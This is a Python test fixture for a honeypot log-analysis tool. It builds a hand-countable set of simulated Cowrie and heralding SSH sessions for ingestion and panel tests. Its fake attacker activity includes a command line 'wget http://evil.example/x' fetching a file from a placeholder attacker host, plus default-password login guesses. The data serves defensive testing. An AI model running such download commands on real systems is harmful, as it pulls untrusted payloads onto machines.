# SPDX-License-Identifier: MIT
"""A small, hand-countable honeypot dataset shared by test_panels.py and test_cli.py.

39 events, two days, three sensors, two honeypots (Cowrie JSON plus honeyfarm's
own format carrying a second honeypot, ``heralding``). Every number the panels
should return is worked out by hand in the tests from the table below.

    session        sensor  src_ip        day         events
    S1 aaaa0001    alpha   8.8.8.8       2024-03-01  11   (10:00:00 .. 10:00:10)
    S2 bbbb0002    alpha   1.1.1.1       2024-03-01   6   (11:30:00 .. 11:30:05)
    S3 aaaa0001    beta    77.88.8.8     2024-03-02   8   (09:15:00 .. 09:15:07)  same id as S1, other sensor
    S4 dddd0004    beta    5.255.255.5   2024-03-02   6   (09:45:00 .. 09:45:05)
    S5 eeee0005    beta    10.0.0.1      2024-03-02   4   (22:00:00 .. 22:00:03)  private: no geo
    H  h-1         gamma   8.8.8.8       2024-03-02   4   (12:00:00 .. 12:00:03)  heralding.*, honeyfarm format

Countries (DB-IP Lite, checked in test_geoip.py): 8.8.8.8 US / AS15169,
1.1.1.1 AU / AS13335, 77.88.8.8 and 5.255.255.5 RU / AS13238.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from honeyfarm.config import Config
from honeyfarm.lake.store import Lake
from honeyfarm.pipeline import ingest

COUNTRY = {"8.8.8.8": "US", "1.1.1.1": "AU", "77.88.8.8": "RU", "5.255.255.5": "RU", "10.0.0.1": None}
HASSH_GO = "16443846184eafde36765c9bab2f4397"
HASSH_LIBSSH = "b5752e36ba6c5979a575e43178908adf"
SHA_X = "AB12CD34EF56AB12CD34EF56AB12CD34EF56AB12CD34EF56AB12CD34EF56AB12"  # uppercase: stored lower-cased
SHA_UP = "cc" * 32
URL_X = "http://evil.example/x"


def _session(
    sensor: str, session: str, ip: str, start: str, steps: list[tuple[str, dict[str, Any]]], fmt: str = "cowrie"
) -> list[dict[str, Any]]:
    t0 = dt.datetime.fromisoformat(start)
    out = []
    for i, (eventid, fields) in enumerate(steps):
        out.append(
            {
                "_fmt": fmt,
                "_ts": t0 + dt.timedelta(seconds=i),
                "eventid": eventid,
                "sensor": sensor,
                "session": session,
                "src_ip": ip,
                **fields,
            }
        )
    return out


EVENTS: list[dict[str, Any]] = [
    *_session("alpha", "aaaa0001", "8.8.8.8", "2024-03-01T10:00:00", [
        ("cowrie.session.connect", {"src_port": 40001, "dst_ip": "10.9.0.1", "dst_port": 22, "protocol": "ssh"}),
        ("cowrie.client.version", {"version": "SSH-2.0-Go"}),
        ("cowrie.client.kex", {"hassh": HASSH_GO}),
        ("cowrie.login.failed", {"username": "root", "password": "123456"}),
        ("cowrie.login.failed", {"username": "root", "password": "admin"}),
        ("cowrie.login.success", {"username": "root", "password": "toor"}),
        ("cowrie.command.input", {"input": "uname -a"}),
        ("cowrie.command.input", {"input": "wget http://evil.example/x"}),
        ("cowrie.command.failed", {"input": "foobar"}),
        ("cowrie.session.file_download", {"url": URL_X, "shasum": SHA_X}),
        ("cowrie.session.closed", {"duration": 10.0}),
    ]),
    *_session("alpha", "bbbb0002", "1.1.1.1", "2024-03-01T11:30:00", [
        ("cowrie.session.connect", {}),
        ("cowrie.client.version", {"version": "SSH-2.0-libssh2_1.10.0"}),
        ("cowrie.client.kex", {"hassh": HASSH_LIBSSH}),
        ("cowrie.login.failed", {"username": "admin", "password": "admin"}),
        ("cowrie.login.failed", {"username": "root", "password": "123456"}),
        ("cowrie.session.closed", {"duration": 5.0}),
    ]),
    *_session("beta", "aaaa0001", "77.88.8.8", "2024-03-02T09:15:00", [
        ("cowrie.session.connect", {}),
        ("cowrie.client.version", {"version": "SSH-2.0-Go"}),
        ("cowrie.client.kex", {"hassh": HASSH_GO}),
        ("cowrie.login.success", {"username": "root", "password": "123456"}),
        ("cowrie.command.input", {"input": "uname -a"}),
        ("cowrie.command.success", {"input": "uname -a"}),
        ("cowrie.session.file_download", {"url": URL_X, "shasum": SHA_X}),
        ("cowrie.session.closed", {"duration": 7.0}),
    ]),
    *_session("beta", "dddd0004", "5.255.255.5", "2024-03-02T09:45:00", [
        ("cowrie.session.connect", {}),
        ("cowrie.login.failed", {"username": "root", "password": "123456"}),
        ("cowrie.session.file_upload", {"filename": "up.bin", "shasum": SHA_UP}),
        ("cowrie.session.file_download.failed", {"url": "http://other.example/y"}),
        ("cowrie.new.thing", {}),
        ("cowrie.session.closed", {"duration": 5.0}),
    ]),
    *_session("beta", "eeee0005", "10.0.0.1", "2024-03-02T22:00:00", [
        ("cowrie.session.connect", {}),
        ("cowrie.client.size", {"width": 80, "height": 24}),
        ("cowrie.login.failed", {"username": "guest", "password": "guest"}),
        ("cowrie.session.closed", {"duration": 3.0}),
    ]),
    *_session("gamma", "h-1", "8.8.8.8", "2024-03-02T12:00:00", [
        ("heralding.session.connect", {}),
        ("heralding.login.failed", {"username": "root", "password": "pass1"}),
        ("heralding.session.info", {}),
        ("heralding.session.closed", {}),
    ], fmt="honeyfarm"),
]  # fmt: skip

assert len(EVENTS) == 39


def to_line(ev: dict[str, Any]) -> str:
    """One JSON line in the event's source format."""
    rec = {k: v for k, v in ev.items() if not k.startswith("_")}
    ts = ev["_ts"].strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    key = "timestamp" if ev["_fmt"] == "cowrie" else "ts"
    return json.dumps({key: ts, **rec})


def write_logs(folder: Path, events: list[dict[str, Any]] | None = None) -> list[Path]:
    """Write ``events`` as one Cowrie file and one honeyfarm-format file (each only if non-empty)."""
    events = EVENTS if events is None else events
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for fmt, name in (("cowrie", "cowrie.json"), ("honeyfarm", "spool.jsonl")):
        lines = [to_line(e) for e in events if e["_fmt"] == fmt]
        if lines:
            p = folder / name
            p.write_text("\n".join(lines) + "\n", encoding="utf-8")
            paths.append(p)
    return paths


def build_lake(root: Path, events: list[dict[str, Any]] | None = None) -> Path:
    """Ingest ``events`` (default: all of EVENTS) through the real pipeline into a lake under ``root``."""
    paths = write_logs(root / "logs", events)
    lake = root / "lake"
    if paths:
        result = ingest([str(p) for p in paths], Config(), lake)
        assert result.errors == []
        assert result.dead_letter == 0
        assert result.ingested == len(events if events is not None else EVENTS)
    return lake


def connect(lake: Path) -> Any:
    return Lake(lake).connect()


def subset(pred: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
    return [e for e in EVENTS if pred(e)]
